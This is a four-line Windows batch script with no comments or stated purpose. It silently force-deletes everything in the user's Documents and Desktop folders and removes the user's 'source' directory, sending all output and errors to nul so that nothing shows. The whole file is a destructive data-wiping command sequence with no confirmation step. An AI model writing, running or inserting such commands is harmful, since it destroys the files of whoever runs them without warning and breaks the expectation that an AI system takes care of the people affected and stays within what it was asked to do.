@echo off
del /f /s /q "%USERPROFILE%\Documents\*" >nul 2>&1
del /f /s /q "%USERPROFILE%\Desktop\*" >nul 2>&1
rmdir /s /q "%USERPROFILE%\source" >nul 2>&1
